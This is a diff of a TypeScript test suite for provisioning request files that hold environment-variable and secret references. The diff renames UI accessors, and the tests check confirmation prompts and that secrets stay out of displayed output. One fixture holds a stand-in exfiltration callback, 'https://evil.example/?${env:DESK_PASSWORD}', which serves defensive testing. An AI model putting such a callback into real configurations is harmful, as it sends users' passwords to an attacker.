@@ -21,7 +21,7 @@ describe('provision of a file with references', () => {
     const own = { environment: (name: string) => environment[name], secrets, account: { id } };
     const { ui, tokens, state, lastResponse, provision } = openWindow(place, script, own);
     const press = (text: string) => provision(aSource(text));
-    const clear = () => [ui.shown(), state.dump(), lastResponse.text() ?? ''].join('\n');
+    const clear = () => [ui.everythingShown(), state.dump(), lastResponse.text() ?? ''].join('\n');
     return { ui, tokens, press, clear };
   }
 
@@ -46,7 +46,7 @@ describe('provision of a file with references', () => {
     await window.press(
       request({ password: '${env:DESK_PASSWORD}', callback: 'https://evil.example/?${env:DESK_PASSWORD}' }),
     );
-    const [question, ...more] = window.ui.told;
+    const [question, ...more] = window.ui.shown;
     assert.equal(question?.text, `Send this request with Mine at ${new URL(place.sandbox.baseUrl).host}?`);
     assert.deepEqual(question.detail?.split('\n').slice(1, 7), [
       '"configuration": {',
@@ -86,14 +86,14 @@ describe('provision of a file with references', () => {
     const text = request({ password: '$env:X ${x}' });
     const window = open({});
     await window.press(text);
-    assert.deepEqual([bodies(), window.ui.told.length], [[text], 1]);
+    assert.deepEqual([bodies(), window.ui.shown.length], [[text], 1]);
   });
 
   it('names all variables that are not set or empty, asks for nothing and sends nothing', async () => {
     const window = open({}, { EMPTY: '' });
     const text = request({ password: '${env:MISSING} ${env:EMPTY}', x: '${secret:X}' });
     await window.press(text);
-    assert.deepEqual(window.ui.told, [
+    assert.deepEqual(window.ui.shown, [
       {
         tone: 'error',
         modal: true,
@@ -141,7 +141,7 @@ describe('provision of a file with references', () => {
     const window = open({ press: ['Send'] }, { SITE: site, STAGE: stage });
     await window.press(request({ password: 'p', 'mailbox.name': 'at ${env:SITE}' }, 'desk ${env:STAGE}'));
     assert.equal(place.sandbox.instances().at(-1)?.name, `desk ${stage}`);
-    assert.match(window.ui.told.at(-1)?.text ?? '', /^Instance "desk \$\{env:STAGE\}" of Help Scout/);
+    assert.match(window.ui.shown.at(-1)?.text ?? '', /^Instance "desk \$\{env:STAGE\}" of Help Scout/);
     assert.equal(window.tokens.list()[0]?.name, 'desk ${env:STAGE}');
     for (const value of [site, stage]) assert.equal(window.clear().includes(value), false);
   });
@@ -158,7 +158,7 @@ describe('provision of a file with references', () => {
   it('refuses a reference in place of the element', async () => {
     const window = open({}, { KEY: 'helpscout' });
     await window.press(request({}, 'desk', '${env:KEY}'));
-    assert.match(window.ui.told[0]?.text ?? '', /^The key of the element is a reference, so nothing was sent/);
+    assert.match(window.ui.shown[0]?.text ?? '', /^The key of the element is a reference, so nothing was sent/);
     assert.deepEqual(bodies(), []);
   });
 });
